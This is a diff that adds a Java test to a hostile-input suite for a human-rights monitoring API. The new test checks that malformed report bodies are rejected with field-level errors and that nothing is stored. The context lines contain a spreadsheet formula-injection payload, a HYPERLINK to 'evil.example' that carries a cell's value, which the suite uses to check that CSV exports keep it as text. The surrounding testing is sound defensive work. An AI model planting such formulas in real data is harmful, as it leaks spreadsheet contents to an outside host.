@@ -64,6 +64,28 @@ class HostileInputTest {
   }
 
   @Test
+  void aBodyThatDoesNotBindNamesTheFieldWithItsChoicesAndWritesNothing() throws Exception {
+    long before = jdbc.sql("SELECT COUNT(*) FROM source_report").query(Long.class).single();
+    String report = "{\"officeId\":\"" + office.office().id() + "\",\"sourceType\":\"%s\",\"receivedOn\":\"%s\","
+        + "\"language\":\"ko\",\"content\":\"About 300 returned at Tumen.\",\"confidentiality\":\"OPEN\"}";
+    mvc.perform(post("/api/monitoring/reports").with(as(Role.MONITOR)).contentType(MediaType.APPLICATION_JSON)
+            .content(report.formatted("NGO", "2002-06-02")))
+        .andExpect(status().isBadRequest())
+        .andExpect(jsonPath("$.errors[0].field").value("sourceType"))
+        .andExpect(jsonPath("$.errors[0].message").value(org.hamcrest.Matchers.startsWith("is one of WITNESS, VICTIM, ")));
+    mvc.perform(post("/api/monitoring/reports").with(as(Role.MONITOR)).contentType(MediaType.APPLICATION_JSON)
+            .content(report.formatted("WITNESS", "yesterday")))
+        .andExpect(status().isBadRequest())
+        .andExpect(jsonPath("$.errors[0].field").value("receivedOn"))
+        .andExpect(jsonPath("$.errors[0].message").value("has the wrong form"));
+    mvc.perform(post("/api/monitoring/reports").with(as(Role.MONITOR)).contentType(MediaType.APPLICATION_JSON)
+            .content(report.formatted("WITNESS", "2002-06-02").replace("}", "")))
+        .andExpect(status().isBadRequest())
+        .andExpect(jsonPath("$.errors[0].field").value("body"));
+    assertThat(jdbc.sql("SELECT COUNT(*) FROM source_report").query(Long.class).single()).isEqualTo(before);
+  }
+
+  @Test
   void aTitleWrittenAsAFormulaLeavesInCsvAsText() throws Exception {
     String formula = "=HYPERLINK(\"http://evil.example/\"&A1,\"Click\")";
     mvc.perform(post("/api/monitoring/events").with(as(Role.MONITOR)).contentType(MediaType.APPLICATION_JSON)
